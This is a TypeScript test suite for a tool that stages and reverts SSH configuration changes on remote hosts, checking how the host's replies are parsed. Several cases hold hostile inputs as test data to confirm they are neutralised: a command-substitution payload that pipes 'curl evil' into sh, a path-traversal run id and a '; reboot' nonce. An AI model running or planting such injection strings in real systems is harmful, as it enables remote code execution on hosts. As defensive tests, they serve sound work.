import { strict as assert } from 'node:assert';
import { upstream } from '../../../../src/distros/upstream.ts';
import { requestApply } from '../../../../src/run/phases/apply.ts';
import { requestConfirm } from '../../../../src/run/phases/confirm.ts';
import { requestRevert } from '../../../../src/run/phases/revert.ts';
import { requestStage } from '../../../../src/run/phases/stage.ts';
import { answering, id, line } from './fake-exec.ts';

const plan = { changes: [], assertions: [], stateFiles: new Map<string, never>() };
const options = { operator: 'alice@desk', revertAfter: 180, layout: upstream };
const foreign = 'keyturn ffffffffffffffff ';

describe('what the host says about staging', () => {
  const cases: readonly (readonly [string, Parameters<typeof answering>[0], unknown])[] = [
    ['staged', { stdout: line('staged') }, { kind: 'staged' }],
    [
      'staged, but the end is missing',
      { stdout: line('staged'), completed: false, code: 0 },
      { kind: 'unknown', detail: 'staging did not end' },
    ],
    [
      'locked',
      { stdout: line('locked run-0 fedcba9876543210 1795289749 bob@his\\0040desk'), code: 10 },
      {
        kind: 'locked',
        by: { runId: 'run-0', nonce: 'fedcba9876543210', since: 1795289749, operator: 'bob@his desk' },
      },
    ],
    [
      'locked by nobody knows whom',
      { stdout: line('locked - - - -'), code: 10 },
      { kind: 'locked', by: { runId: '?', nonce: undefined, since: undefined, operator: '?' } },
    ],
    [
      'locked by what nobody shall copy into a command',
      { stdout: line('locked ;id $(curl\\0040evil|sh) 1795289749 bob@desk'), code: 10 },
      { kind: 'locked', by: { runId: '?', nonce: undefined, since: 1795289749, operator: 'bob@desk' } },
    ],
    ['drifted', { stdout: line('drifted /etc/pam.d/sshd'), code: 11 }, { kind: 'drifted', path: '/etc/pam.d/sshd' }],
    [
      'refused',
      { stdout: line('refused space /etc/x no\\0040room'), code: 12 },
      { kind: 'refused', reason: 'space', path: '/etc/x', detail: 'no room' },
    ],
    [
      'refused, of no file',
      { stdout: line('refused no-daemon - none'), code: 12 },
      { kind: 'refused', reason: 'no-daemon', path: undefined, detail: 'none' },
    ],
    ['nothing', { stderr: 'sh: not found\n', code: 127 }, { kind: 'unknown', detail: 'sh: not found' }],
    ['something else', { stdout: line('victory') }, { kind: 'unknown', detail: '' }],
    ['the answer of another run', { stdout: `${foreign}staged\n` }, { kind: 'unknown', detail: '' }],
  ];
  for (const [what, answer, expected] of cases) {
    it(what, async () => {
      assert.deepEqual(await requestStage(answering(answer), id, plan, options), expected);
    });
  }

  it('sends no secret but on standard input', async () => {
    const exec = answering({ stdout: line('staged') });
    await requestStage(exec, id, plan, options);
    const [script] = exec.scripts;
    assert.deepEqual(script?.args?.map(String), ['run-1', id.nonce, 'alice@desk', '180', '[secret]']);
    assert.equal(script.become, true);
  });
});

describe('what the host says about applying', () => {
  const cases: readonly (readonly [string, Parameters<typeof answering>[0], unknown])[] = [
    ['applied', { stdout: `${line('step check')}${line('step sshd')}${line('applied')}` }, { kind: 'applied' }],
    [
      'applied, but cut off',
      { stdout: `${line('step reload')}${line('applied')}`, completed: false, code: undefined },
      { kind: 'unknown', detail: 'the last step was "reload"' },
    ],
    [
      'reverted',
      { stdout: line('reverted sshd-test sshd\\0040-t\\0040fails'), code: 20 },
      { kind: 'reverted', reason: 'sshd-test', detail: 'sshd -t fails' },
    ],
    [
      'nothing to apply',
      { stdout: line('nothing-armed'), code: 31 },
      { kind: 'reverted', reason: 'nothing-armed', detail: '' },
    ],
    [
      'half reverted',
      { stdout: line('revert-incomplete reload x'), code: 21 },
      { kind: 'unknown', detail: 'reload: x; putting it back did not succeed' },
    ],
    [
      'cut off in the middle',
      { stdout: line('step pam'), completed: false, code: undefined },
      { kind: 'unknown', detail: 'the last step was "pam"' },
    ],
    ['nothing', { completed: false, code: undefined }, { kind: 'unknown', detail: '' }],
  ];
  for (const [what, answer, expected] of cases) {
    it(what, async () => {
      assert.deepEqual(await requestApply(answering(answer), id), expected);
    });
  }
});

describe('what the host says about confirming and reverting', () => {
  it('confirmed', async () => {
    assert.deepEqual(await requestConfirm(answering({ stdout: line('confirmed') }), id), { kind: 'confirmed' });
  });

  it('too late to confirm', async () => {
    assert.deepEqual(await requestConfirm(answering({ stdout: line('already-reverted'), code: 30 }), id), {
      kind: 'already-reverted',
    });
  });

  it('confirmed, but cut off: nobody knows', async () => {
    const cut = answering({ stdout: line('confirmed'), completed: false, code: undefined });
    assert.deepEqual(await requestConfirm(cut, id), { kind: 'unknown', detail: '' });
  });

  it('reverted', async () => {
    assert.deepEqual(await requestRevert(answering({ stdout: `${line('reverted')}SSH is as it was.\n` }), id), {
      kind: 'reverted',
    });
  });

  it('nothing to revert', async () => {
    assert.deepEqual(await requestRevert(answering({ stdout: line('nothing-armed'), code: 31 }), id), {
      kind: 'nothing-armed',
    });
  });

  it('too late to revert', async () => {
    assert.deepEqual(await requestRevert(answering({ stdout: line('already-confirmed'), code: 32 }), id), {
      kind: 'confirmed',
    });
  });

  it('half reverted', async () => {
    const half = answering({ stdout: line('revert-incomplete the\\0040daemon'), code: 21 });
    assert.deepEqual(await requestRevert(half, id), { kind: 'unknown', detail: 'the daemon' });
    const wordless = answering({ stdout: line('revert-incomplete'), code: 21 });
    assert.deepEqual(await requestRevert(wordless, id), { kind: 'unknown', detail: '' });
  });

  it('nothing: what it printed instead is kept', async () => {
    const silent = answering({ stderr: ' sh: not found\n', code: 127 });
    const unknown = { kind: 'unknown', detail: 'sh: not found' };
    assert.deepEqual(await requestRevert(silent, id), unknown);
    assert.deepEqual(await requestConfirm(silent, id), unknown);
    assert.deepEqual(await requestApply(silent, id), unknown);
  });

  it('refuses ids that are no words', async () => {
    const exec = answering({});
    await assert.rejects(requestRevert(exec, { runId: '../x', nonce: id.nonce }), TypeError);
    await assert.rejects(requestRevert(exec, { runId: 'x', nonce: '; reboot' }), TypeError);
    assert.deepEqual(exec.scripts, []);
  });
});
